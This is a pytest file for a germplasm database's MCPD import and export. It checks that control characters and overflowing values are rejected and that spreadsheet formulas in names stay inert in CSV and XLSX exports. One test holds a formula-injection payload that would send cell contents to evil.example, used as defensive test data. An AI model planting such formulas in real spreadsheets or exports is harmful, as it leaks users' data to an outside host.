"""Values that would break a file or its reader: control characters, formulas, overflows."""
import json
import zipfile

from openpyxl import load_workbook

from germplasm.accessions.models import AccessionName
from germplasm.extensions import db
from tests.conftest import write

HEADER = "INSTCODE,ACCENUMB,ACCENAME,GENUS,COORDUNCERT\n"


def test_control_characters_are_refused_at_import_with_row_and_column(cli, tmp_path):
    path = write(tmp_path / "a.csv", HEADER + "CHN385,B1,bad\x07name,Prunus,\n"
                                              "CHN385,B2,good name,Prunus,\n")
    report = tmp_path / "report.json"
    result = cli("import", "mcpd", path, "--report", report)
    assert result.exit_code == 3
    rejected = json.loads(report.read_text(encoding="utf-8"))["rejected"]
    assert [(r["row"], r["column"]) for r in rejected] == [(2, "ACCENAME")]
    assert "U+0007" in rejected[0]["message"]


def test_a_huge_coordinate_uncertainty_is_a_row_error(cli, tmp_path):
    path = write(tmp_path / "a.csv", HEADER + "CHN385,B3,x,Prunus,99999999999999999999\n")
    report = tmp_path / "report.json"
    assert cli("import", "mcpd", path, "--report", report).exit_code == 3
    rejected = json.loads(report.read_text(encoding="utf-8"))["rejected"]
    assert [(r["row"], r["column"]) for r in rejected] == [(2, "COORDUNCERT")]


def _store_legacy_control_character(accession) -> None:
    """A name stored before the import refused control characters."""
    db.session.execute(db.update(AccessionName).where(
        AccessionName.accession_id == accession.id).values(name="bad\x07name"))
    db.session.commit()


def test_stored_control_characters_do_not_break_exports(cli, client, make_accession,
                                                        tmp_path, index_dir):
    from search import accession_index

    accession = make_accession(accenumb="B4", accename="placeholder")
    _store_legacy_control_character(accession)
    accession_index.rebuild()
    response = client.get("/export/xlsx?q=B4")
    assert response.status_code == 200
    out = tmp_path / "x.xlsx"
    out.write_bytes(response.data)
    assert load_workbook(out).active["C2"].value == "badname"
    result = cli("export", "mcpd", tmp_path / "all.xlsx")
    assert result.exit_code == 0, result.output
    names = [row[14] for row in load_workbook(tmp_path / "all.xlsx").active.values]
    assert "badname" in names


def test_formulas_in_names_are_inert_in_web_exports_and_the_campaign_template(
        cli, client, make_accession, tmp_path, index_dir):
    from germplasm.evaluations import campaigns
    from search import accession_index

    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    accession = make_accession(accenumb="F1", accename=formula)
    campaign, _ = campaigns.get_or_create("2026 模板", 2026)
    campaigns.add_descriptors(campaign, campaigns.descriptors_by_code(["SSC"]))
    campaigns.add_to_worklist(campaign, [accession.id])
    db.session.commit()
    accession_index.rebuild()
    csv_text = client.get("/export/csv?q=F1").get_data(as_text=True)
    assert "'=HYPERLINK" in csv_text
    for name, data in (("web.xlsx", client.get("/export/xlsx?q=F1").data),):
        (tmp_path / name).write_bytes(data)
    assert cli("campaign", "template", "2026 模板", "-o", tmp_path / "t.xlsx").exit_code == 0
    for name in ("web.xlsx", "t.xlsx"):
        with zipfile.ZipFile(tmp_path / name) as archive:
            sheets = [archive.read(n).decode() for n in archive.namelist()
                      if n.startswith("xl/worksheets/")]
        assert not any("<f>" in sheet for sheet in sheets), name
        cells = [c for row in load_workbook(tmp_path / name).worksheets[0].values for c in row]
        assert formula in cells, name
